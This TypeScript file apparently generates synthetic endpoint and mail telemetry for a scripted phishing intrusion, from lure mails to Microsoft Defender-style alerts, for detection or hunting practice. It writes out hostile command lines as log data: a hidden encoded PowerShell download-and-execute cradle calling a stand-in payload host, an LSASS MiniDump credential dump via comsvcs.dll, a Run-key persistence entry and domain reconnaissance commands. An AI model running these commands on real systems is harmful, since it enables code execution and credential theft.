import { deviceOf, SYSTEM, USERS, WORKSTATIONS, type User } from './company.ts';
import { profileFolder, type DeviceLog, type Process } from './deviceEvents.ts';
import {
  addressEvidence,
  deviceEvidence,
  fileEvidence,
  mailEvidence,
  processEvidence,
  raiseAlert,
  userEvidence,
} from './alerts.ts';
import { createImage, IMAGES, type Image } from './images.ts';
import { PAYLOAD_HOST, tellLateralMovement } from './lateralMovement.ts';
import { clickLink, deliverMail, purgeMail, type DeliveredMail } from './mail.ts';
import { createRandom, elementAt } from './random.ts';
import { openSession } from './sessions.ts';
import type { SampleTables } from './tables.ts';
import { after, DAY, HOUR, MINUTE, SAMPLE_END, SECOND, type Instant } from './time.ts';

const START = SAMPLE_END - 2n * DAY - 3n * HOUR;
const LURE = 'https://docs-share.lakesh0re-invoices.example/view?id=88412';
const PAYLOAD_IP = '203.0.113.66';
const RECIPIENTS = 14;

const random = createRandom('phishing story');
const MACRO_DOCUMENT = createImage('Invoice_88412.docm', 'C:\\Users\\Public', { isSigned: false });
const victim = elementAt(USERS, 16);
const device = deviceOf(victim);
const IMPLANT = createImage('upd7.exe', profileFolder(victim, 'AppData', 'Local', 'Temp'), { isSigned: false });
/**
 * A phishing mail with a link is clicked; the document behind it has a macro; Word starts PowerShell with an encoded
 * command, which fetches an implant; the implant takes credentials from LSASS; with them the intruder moves on to
 * servers by remote desktop and PsExec.
 */
export function tellPhishingStory(log: DeviceLog, tables: SampleTables): void {
  const mail = sendLure(tables);
  const opened = START + 41n * MINUTE + 3_118_204n;
  const implant = runMacro(log, opened);
  stayAndLookAround(log, implant, opened);
  const stolen = takeCredentials(log, implant, opened + 52n * MINUTE);
  tellLateralMovement(log, tables, implant, stolen);
  raiseAlerts(tables, mail, opened, stolen);
}

function sendLure(tables: SampleTables): DeliveredMail {
  const recipients = [
    victim,
    ...USERS.filter((user) => user.department === 'Finance' && user !== victim).slice(0, RECIPIENTS - 1),
  ];
  const mails = recipients.map((recipient, index) =>
    deliverMail(tables, {
      at: START + BigInt(index) * 2n * SECOND + BigInt(random.integer(0, 9_999_999)),
      sender: { address: 'billing@lakesh0re-invoices.example', displayName: 'Accounts Receivable', ip: '203.0.113.61' },
      recipient,
      subject: 'Overdue invoice 88412 - action needed today',
      urls: [LURE],
      attachments: [],
      clusterId: 2_884_120_001,
    }),
  );
  const [first, second, third, ...others] = mails;
  if (first === undefined || second === undefined || third === undefined)
    throw new Error('the lure needs three readers');
  clickLink(tables, first, LURE, START + 38n * MINUTE + 7_402_211n, { actionType: 'ClickAllowed', ip: device.ip });
  clickLink(tables, second, LURE, START + 55n * MINUTE + 1_230_877n, {
    actionType: 'ClickAllowed',
    ip: ipOf(second.recipient),
  });
  clickLink(tables, third, LURE, START + 5n * HOUR, {
    actionType: 'ClickBlocked',
    isClickedThrough: false,
    ip: ipOf(third.recipient),
  });
  for (const mail of [third, ...others]) purgeMail(tables, mail, 'Phish');
  return first;
}

function runMacro(log: DeviceLog, opened: Instant): Process {
  const { explorer } = openSession(device);
  const downloads = profileFolder(victim, 'Downloads');
  const edge = log.start(
    device,
    explorer,
    IMAGES.edge,
    `"msedge.exe" --single-argument ${LURE}`,
    opened - 100n * SECOND,
  );
  log.reportConnection(device, edge, opened - 98n * SECOND, {
    ip: '203.0.113.61',
    port: 443,
    url: 'docs-share.lakesh0re-invoices.example',
  });
  log.reportFile(device, edge, opened - 60n * SECOND, 'FileCreated', {
    fileName: MACRO_DOCUMENT.fileName,
    folder: downloads,
    image: MACRO_DOCUMENT,
    originUrl: LURE,
    originIp: '203.0.113.61',
  });
  const word = log.start(
    device,
    explorer,
    IMAGES.word,
    `"WINWORD.EXE" /n "${downloads}\\${MACRO_DOCUMENT.fileName}" /o ""`,
    opened,
  );
  const script = `IEX (New-Object Net.WebClient).DownloadString('https://${PAYLOAD_HOST}/s/a1')`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const shell = log.start(
    device,
    word,
    IMAGES.powershell,
    `powershell.exe -nop -w hidden -ep bypass -enc ${encoded}`,
    opened + 19n * SECOND + 4_417_002n,
  );
  log.start(device, shell, IMAGES.conhost, 'conhost.exe 0xffffffff -ForceV1', opened + 19n * SECOND + 5_009_313n);
  log.reportConnection(device, shell, opened + 22n * SECOND, { ip: PAYLOAD_IP, port: 443, url: PAYLOAD_HOST });
  log.reportFile(device, shell, opened + 27n * SECOND, 'FileCreated', {
    fileName: IMPLANT.fileName,
    folder: IMPLANT.folder,
    image: IMPLANT,
  });
  return log.start(
    device,
    shell,
    IMPLANT,
    `"${IMPLANT.folder}\\${IMPLANT.fileName}" -q`,
    opened + 31n * SECOND + 2_091_456n,
  );
}

function stayAndLookAround(log: DeviceLog, implant: Process, opened: Instant): void {
  log.reportRegistry(device, implant, opened + 50n * SECOND, {
    actionType: 'RegistryValueSet',
    key: `HKEY_CURRENT_USER\\${victim.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`,
    valueName: 'SyncHelper',
    data: `${IMPLANT.folder}\\${IMPLANT.fileName} -q`,
  });
  const commands: readonly (readonly [Image, string])[] = [
    [IMAGES.whoami, 'whoami /all'],
    [IMAGES.systeminfo, 'systeminfo'],
    [IMAGES.net, 'net group "Domain Admins" /domain'],
    [IMAGES.nltest, 'nltest /domain_trusts /all_trusts'],
    [IMAGES.ipconfig, 'ipconfig /all'],
  ];
  const shell = log.start(device, implant, IMAGES.cmd, 'cmd.exe /c', opened + 6n * MINUTE);
  for (const [index, [image, commandLine]] of commands.entries()) {
    log.start(device, shell, image, commandLine, opened + 6n * MINUTE + BigInt(index * 9 + 3) * SECOND + 1_177_080n);
  }
  // The implant calls home every ten minutes, give or take a little.
  for (let at = opened + 60n * SECOND; at < SAMPLE_END; at = after(random, at, 570, 630)) {
    log.reportConnection(device, implant, at, { ip: PAYLOAD_IP, port: 443, url: PAYLOAD_HOST });
  }
}

function takeCredentials(log: DeviceLog, implant: Process, at: Instant): Instant {
  const dump = 'C:\\Windows\\Temp';
  const elevated = { user: SYSTEM, integrity: 'System', logonId: 999 } as const;
  const commandLine = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${openSession(device).lsass.id} ${dump}\\dbg.tmp full`;
  const dumper = log.start(device, implant, IMAGES.rundll32, commandLine, at + 2_004_119n, elevated);
  log.reportFile(device, dumper, at + 4n * SECOND, 'FileCreated', {
    fileName: 'dbg.tmp',
    folder: dump,
    size: 58_204_160,
  });
  log.reportFile(device, implant, at + 9n * MINUTE, 'FileDeleted', {
    fileName: 'dbg.tmp',
    folder: dump,
    size: 58_204_160,
  });
  return at;
}

function raiseAlerts(tables: SampleTables, mail: DeliveredMail, opened: Instant, stolen: Instant): void {
  const endpoint = 'Microsoft Defender for Endpoint';
  const rundll = processEvidence(device, IMAGES.rundll32, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump');
  raiseAlert(tables, {
    at: opened + 4n * HOUR,
    title: 'A link was found malicious after a user had clicked it',
    category: 'InitialAccess',
    severity: 'High',
    source: 'Microsoft Defender for Office 365',
    detection: 'Microsoft Defender for Office 365',
    techniques: ['Phishing (T1566)', 'Spearphishing Link (T1566.002)'],
    evidence: [userEvidence(victim), mailEvidence(mail), addressEvidence('203.0.113.61', LURE)],
  });
  raiseAlert(tables, {
    at: opened + 3n * MINUTE,
    title: 'An Office program started a hidden PowerShell',
    category: 'Execution',
    severity: 'Medium',
    source: endpoint,
    detection: 'EDR',
    techniques: ['PowerShell (T1059.001)', 'Malicious File (T1204.002)'],
    evidence: [
      deviceEvidence(device),
      userEvidence(victim),
      processEvidence(device, IMAGES.powershell, 'powershell.exe -nop -w hidden -ep bypass -enc'),
      fileEvidence(device, IMPLANT, 'Tarnlight'),
      addressEvidence(PAYLOAD_IP),
    ],
  });
  raiseAlert(tables, {
    at: stolen + 2n * MINUTE,
    title: 'The memory of LSASS was written to a file',
    category: 'CredentialAccess',
    severity: 'High',
    source: endpoint,
    detection: 'EDR',
    techniques: ['LSASS Memory (T1003.001)'],
    evidence: [deviceEvidence(device), userEvidence(victim), rundll],
  });
}

function ipOf(user: User): string {
  return WORKSTATIONS.find(({ owner }) => owner === user)?.ip ?? '10.20.9.9';
}
